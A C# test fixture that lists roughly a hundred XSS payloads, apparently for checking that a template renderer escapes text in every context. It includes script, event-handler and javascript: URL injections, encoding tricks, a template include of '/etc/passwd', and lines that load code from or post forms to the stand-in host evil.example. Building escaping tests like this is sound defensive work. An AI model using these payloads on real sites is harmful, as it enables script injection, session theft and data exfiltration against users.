namespace Digest.Tests.Rendering;

/// <summary>Texts that try to become markup, out of each place that a template can put them in.</summary>
internal static class XssPayloads
{
    public static readonly string[] All =
    [
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "</script><script>alert(1)</script>",
        "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<<script>alert(1)//<</script>", "<script type=module>import('//evil.example')</script>",
        "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'>", "<img/src/onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg><use href=\"data:image/svg+xml,x\"/>",
        "<math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\">", "<math href=\"javascript:alert(1)\">x</math>",
        "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
        "<body onload=alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>", "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<style>*{background:url(//evil.example)}</style>", "<style>@import'//evil.example';</style>", "</style><script>alert(1)</script>", "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</td></tr></table><script>alert(1)</script>", "</a><a href=javascript:alert(1)>x", "</p></h1></div></body></html><script>alert(1)</script>",
        "<a href=javascript:alert(1)>x</a>", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
        "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "\" autofocus onfocus=alert(1) x=\"", "\"><script>alert(1)</script>", "'><script>alert(1)</script>", "\"/><img src=x onerror=alert(1)>",
        "\" style=\"background:url(//evil.example)", "' style='x:expression(alert(1))", "\"><input type=hidden value=\"", "` onmouseover=alert(1)", "x onmouseover=alert(1) ", "/ onmouseover=alert(1)",
        "\"><form action=//evil.example><button>", "<form><button formaction=javascript:alert(1)>x", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<select autofocus onfocus=alert(1)>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "--><script>alert(1)</script>", "--!><script>alert(1)</script>", "<!--[if mso]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>", "<!DOCTYPE html><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;script&#x3e;alert(1)",
        "&quot; onclick=&quot;alert(1)", "\u003cscript\u003ealert(1)", "\uFF1Cscript\uFF1Ealert(1)", "<\0script>alert(1)</script>", "<\u2028script>alert(1)</script>", "\ud800<script>alert(1)</script>", "<img src=x onerror=\ud83d\ude00>",
        "{{ 'x' }}", "{{ include '/etc/passwd' }}", "{%{ <script>alert(1)</script> }%}", "${alert(1)}", "<%= 1 %>", "\r\n\r\n<script>alert(1)</script>", "\t\"\tonclick=\talert(1)", "<template><script>alert(1)</script></template>",
        "<frameset onload=alert(1)>", "<table background=javascript:alert(1)>", "<div style=\"width:expression(alert(1))\">", "<plaintext>", "<xmp><script>alert(1)</script></xmp>", "<isindex action=javascript:alert(1)>",
    ];
}
